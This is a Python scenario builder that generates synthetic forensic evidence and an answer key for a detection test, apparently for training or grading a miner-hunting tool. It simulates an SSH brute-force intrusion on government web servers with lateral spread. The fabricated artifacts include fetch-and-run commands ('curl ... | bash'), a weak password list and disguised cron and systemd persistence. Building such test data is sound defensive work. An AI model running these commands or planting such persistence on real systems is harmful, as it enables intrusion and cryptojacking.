"""Seed case 9: government web servers, SSH brute force, one shared weak root password.

An internet address guesses root's password on the DMZ web server ``web-gov01`` and gets in;
the dropper starts a miner and an SSH scanner, both started again at boot (cron ``@reboot``
and a systemd unit). The scanner tries the same password list on the neighbours: it gets into
``web-gov02`` (same root password), whose own scanner gets into ``web-gov03``; ``web-gov04``
has another password and only logs the failures. ``db-gov01`` sees the admins and the
nightly backup only; ``web-gov05``'s disk came without logs or processes (unknown). The
security device (Suricata) saw the brute force, the internal scanning and the pool sessions.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from deminer.scenarios.net_logs import Network
from deminer.scenarios.seed.common import Persist, Truth, resolve_names, utc
from deminer.scenarios.seed.hosts_linux import LinuxBox, accepted_at, miner

ATTACKER = "203.0.113.45"
POOL, POOL_IP, PORT = "pool.minexmr.com", "198.51.100.77", 4444
BACKUP_IP = "10.9.2.30"
DROP = "/var/tmp/.x"
BOOT = utc("2024-03-20 06:00:00")
START = utc("2024-04-10 00:30:00")
SCANNER = f"{DROP}/sshscan"


def _drop(box: LinuxBox, at: dt.datetime, truth: Truth) -> None:
    """What the dropper leaves: miner, scanner, cron @reboot, a unit and the history."""
    miner(box, 7001, f"{DROP}/kworkerds", at + dt.timedelta(minutes=2), POOL, POOL_IP, PORT)
    dropped = at + dt.timedelta(minutes=2)
    box.file(SCANNER, b"#!/bin/bash\n# ssh scanner\nwhile read ip; do sshpass -f pass.txt ssh root@$ip "
             b"'curl -s http://203.0.113.45/i.sh|bash'; done < targets\n", dropped, 0o755)
    box.file(f"{DROP}/pass.txt", "123456\nadmin@123\nroot\nGov@2019\npassword\n", dropped)
    box.process(7002, b"sshscan", [b"/bin/bash", SCANNER.encode(), b"10.9.1.0/24"], "/usr/bin/bash",
                at + dt.timedelta(minutes=3), cwd=DROP)
    box.crontab("root", f"@reboot {DROP}/kworkerds -o {POOL}:{PORT} -k -B >/dev/null 2>&1",
                at + dt.timedelta(minutes=4))
    unit = (f"[Unit]\nDescription=System guard\n\n[Service]\nExecStart={SCANNER} 10.9.1.0/24\n"
            "Restart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n")
    box.unit("sysguard.service", unit, at + dt.timedelta(minutes=4))
    box.history("root", [(at + dt.timedelta(minutes=1), f"mkdir -p {DROP}; cd {DROP}"),
                         (at + dt.timedelta(minutes=1, seconds=20),
                          f"curl -s http://{ATTACKER}/x.tgz | tar xz"),
                         (at + dt.timedelta(minutes=3), f"nohup {SCANNER} 10.9.1.0/24 &")])
    truth.infect(box.name, at, Persist("cron", "@reboot"), Persist("systemd", "sysguard.service"))


def build(out: Path, work: Path) -> Truth:
    truth = Truth(9, "SSH brute force with one shared weak password, scanner dropped on each victim",
                  "brute_force")
    boxes = {}
    for n, (name, ip, verdict) in enumerate([
            ("web-gov01", "10.9.1.11", "infected"), ("web-gov02", "10.9.1.12", "infected"),
            ("web-gov03", "10.9.1.13", "infected"), ("web-gov04", "10.9.1.14", "clean"),
            ("web-gov05", "10.9.1.15", "unknown"), ("db-gov01", "10.9.2.20", "clean")]):
        truth.host(name, ip, verdict)
        boxes[name] = box = LinuxBox(work, name, ip, BOOT, START, seed=90 + n)
        box.auth.benign_login("admin", "192.0.2.10")
        box.auth.cron("root", "cd / && run-parts --report /etc/cron.hourly")
    truth.patient_zero = {"web-gov01"}
    net = Network(start=START, seed=9)

    t1 = utc("2024-04-10 01:12:00")
    a = boxes["web-gov01"]
    a.auth.clock = t1
    a.auth.brute_force(ATTACKER, ["root", "admin", "test", "oracle"], attempts=180, success_user="root",
                       invalid={"test", "oracle"})
    net.now = t1
    net.ssh_brute_force(ATTACKER, a.ip, connections=30, success=True)
    _drop(a, accepted_at(a, ATTACKER), truth)

    # The scanner on web-gov01 tries the neighbours with its list; root's password is shared.
    for target, when, ok in (("web-gov02", "2024-04-10 01:41:00", True),
                             ("web-gov04", "2024-04-10 01:47:00", False)):
        box = boxes[target]
        box.auth.clock = utc(when)
        box.auth.brute_force(a.ip, ["root"], attempts=24, success_user="root" if ok else None, spacing=1.0)
        net.now = utc(when)
        net.ssh_brute_force(a.ip, box.ip, connections=4, success=ok)
        a.known_host("root", box.ip, box, utc(when))
        if ok:
            at = accepted_at(box, a.ip)
            truth.edge(a.name, target, "ssh_brute_force", at)
            _drop(box, at, truth)
    b, c = boxes["web-gov02"], boxes["web-gov03"]
    c.auth.clock = utc("2024-04-10 02:10:00")
    c.auth.brute_force(b.ip, ["root"], attempts=30, success_user="root", spacing=1.0)
    net.now = utc("2024-04-10 02:10:00")
    net.ssh_brute_force(b.ip, c.ip, connections=5, success=True)
    b.known_host("root", c.ip, c, utc("2024-04-10 02:10:00"))
    at = accepted_at(c, b.ip)
    truth.edge(b.name, c.name, "ssh_brute_force", at)
    _drop(c, at, truth)

    # Noise: the nightly backup pulls from every server; admins keep working.
    for box in boxes.values():
        box.auth.clock = max(box.auth.clock, utc("2024-04-10 03:00:00"))
        box.auth.benign_login("backup", BACKUP_IP)
        box.auth.sudo("admin", "/usr/bin/systemctl status nginx")
    net.now = utc("2024-04-10 03:00:00")
    for name in ("web-gov01", "web-gov02", "web-gov03"):
        net.miner(boxes[name].ip, POOL, POOL_IP, port=PORT, hours=2)
    resolve_names(net, BACKUP_IP, {name: box.ip for name, box in boxes.items()})
    for box in boxes.values():
        net.conn(BACKUP_IP, box.ip, 22, service="ssh", duration=40.0, orig_bytes=90_000,
                 resp_bytes=80_000_000, orig_pkts=900, resp_pkts=55_000)
    net.browse("10.9.2.20", visits=3)

    for name, box in boxes.items():
        if name == "web-gov05":
            box.collect(out, logs=False, proc=False)
        else:
            box.collect(out)
    (out / "sensor").mkdir(parents=True, exist_ok=True)
    net.write_eve(out / "sensor" / "eve.json")

    truth.want("web-gov01", "initial_access.ssh_brute_force_success", "credential_access.ssh_brute_force",
               "impact.miner_process", "persistence.autostart_from_tmp", "persistence.watchdog_restart")
    for name in ("web-gov02", "web-gov03"):
        truth.want(name, "initial_access.ssh_brute_force_success", "impact.miner_process",
                   "persistence.autostart_from_tmp")
    truth.want("web-gov04", "credential_access.ssh_brute_force")
    truth.want("web-gov01", "credential_access.net_ssh_brute_force", needs="network")
    for name in ("web-gov01", "web-gov02", "web-gov03"):
        truth.want(name, "command_and_control.net_ids_miner_alert", needs="network")
    truth.clean_may = {"credential_access.ssh_brute_force", "credential_access.net_ssh_brute_force"}
    truth.notes.append("Edges run from the scanner's host to the host it logged in to; web-gov03 was "
                       "reached from web-gov02, not from patient zero.")
    return truth
